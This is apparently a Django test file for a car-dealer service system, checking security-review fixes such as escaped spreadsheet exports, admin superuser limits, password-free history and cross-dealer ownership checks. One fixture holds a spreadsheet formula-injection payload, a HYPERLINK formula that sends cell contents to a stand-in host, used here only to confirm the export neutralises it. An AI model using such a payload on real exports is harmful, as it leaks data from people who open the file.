"""The admin, exports and history must not become ways around the rules (review findings)."""

from io import BytesIO

import pytest
from django.contrib.admin.sites import site
from django.core.exceptions import ValidationError
from django.test import RequestFactory
from django.utils import translation
from openpyxl import load_workbook

from accounts.choices import Role
from accounts.models import User
from core.history import history_entries
from core.tests.factories import BrandFactory, CustomerFactory, UserFactory, VehicleFactory, make_vin
from customers.models import Vehicle

pytestmark = pytest.mark.django_db


def test_export_writes_formula_like_text_as_text(client, advisor_a, dealer_a):
    CustomerFactory(dealer=dealer_a, name='=HYPERLINK("http://evil.example/?"&B2,"x")', mobile="13800000001")
    CustomerFactory(dealer=dealer_a, name="+86客户", mobile="13800000002")
    client.force_login(advisor_a)
    sheet = load_workbook(BytesIO(client.get("/customers/export.xlsx").content)).active
    names = sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert names == ["'+86客户", '\'=HYPERLINK("http://evil.example/?"&B2,"x")']
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row[:2])


def test_an_administrator_who_is_not_superuser_cannot_grant_superuser():
    admin = UserFactory(roles=[Role.ADMINISTRATOR], is_staff=True)
    request = RequestFactory().get("/admin/accounts/user/1/change/")
    request.user = admin
    readonly = site._registry[User].get_readonly_fields(request, admin)
    assert {"is_superuser", "user_permissions"} <= set(readonly)
    root = UserFactory(is_staff=True, is_superuser=True)
    request.user = root
    assert "is_superuser" not in site._registry[User].get_readonly_fields(request, admin)


def test_user_history_keeps_no_password_hash(advisor_a):
    advisor_a.set_password("another-secret-1")
    advisor_a.save()
    assert "password" not in {f.name for f in User.history.model._meta.fields}
    assert "last_login" not in {f.name for f in User.history.model._meta.fields}


def test_a_vehicle_cannot_belong_to_a_customer_of_another_dealer(dealer_a, dealer_b):
    vehicle = VehicleFactory(owner=CustomerFactory(dealer=dealer_a))
    vehicle.owner = CustomerFactory(dealer=dealer_b)
    with pytest.raises(ValidationError) as error:
        vehicle.full_clean()
    assert "owner" in error.value.error_dict


def test_records_are_stored_normalised_however_they_are_edited(dealer_a):
    vehicle = VehicleFactory(owner=CustomerFactory(dealer=dealer_a), vin=make_vin(5), plate="粤A00001")
    copy = Vehicle(dealer=dealer_a, owner=vehicle.owner, vin=vehicle.vin.lower(), plate="粤a 00002", brand="大众")
    with pytest.raises(ValidationError) as error:
        copy.full_clean()  # the lowercase VIN is the same VIN
    assert copy.vin == vehicle.vin and copy.plate == "粤A00002"
    assert error.value.error_dict.keys() == {"__all__"}


def test_an_admin_save_bumps_the_version_and_keeps_dealer_and_owner(dealer_a):
    vehicle = VehicleFactory(owner=CustomerFactory(dealer=dealer_a))
    root = UserFactory(is_staff=True, is_superuser=True)
    request = RequestFactory().post("/admin/")
    request.user = root
    model_admin = site._registry[Vehicle]
    assert {"dealer", "owner", "version"} <= set(model_admin.get_readonly_fields(request, vehicle))
    model_admin.save_model(request, vehicle, form=None, change=True)
    vehicle.refresh_from_db()
    assert vehicle.version == 2


def test_history_of_a_dealer_skips_many_to_many_noise(dealer_a):
    dealer_a.brands.add(BrandFactory())
    dealer_a.name = "甲店（新）"
    dealer_a.save()
    rendered = [str(change) for entry in history_entries(dealer_a) for change in entry.changes]
    assert rendered and not any("HistoricalDealer_brands" in text for text in rendered)


def test_history_shows_changes_made_by_services_to_non_editable_fields(vehicle_a, advisor_a):
    from repairs import services

    order = services.repair_order_open(vehicle=vehicle_a, by=advisor_a, customer_complaint="x", job_type="repair")
    services.repair_order_transition(order=order, action="cancel", by=advisor_a, version=order.version, note="客户离开")
    order.refresh_from_db()
    with translation.override("en"):
        entries = history_entries(order)
        changes = {label: (str(old), str(new)) for entry in entries for label, old, new in entry.changes}
    assert changes["status"] == ("Reception", "Cancelled")
    assert changes["cancel reason"] == ("", "客户离开")
    assert "cancelled at" in changes


def test_each_role_lands_on_its_own_shortcuts(dealer_a):
    from django.test import Client

    expected = {
        Role.SERVICE_ADVISOR: "/desk/",
        Role.FOREMAN: "/workshop/",
        Role.TECHNICIAN: "/workshop/my-jobs/",
        Role.QC_INSPECTOR: "/workshop/qc/",  # the QC queue (its home page since issue 13)
        Role.PARTS_CLERK: "/parts/counter/",
        Role.FOLLOWUP_SPECIALIST: "/tasks/",
    }
    for role, href in expected.items():
        client = Client()
        client.force_login(UserFactory(roles=[role], dealers=[dealer_a]))
        assert f'href="{href}"' in client.get("/").content.decode(), role
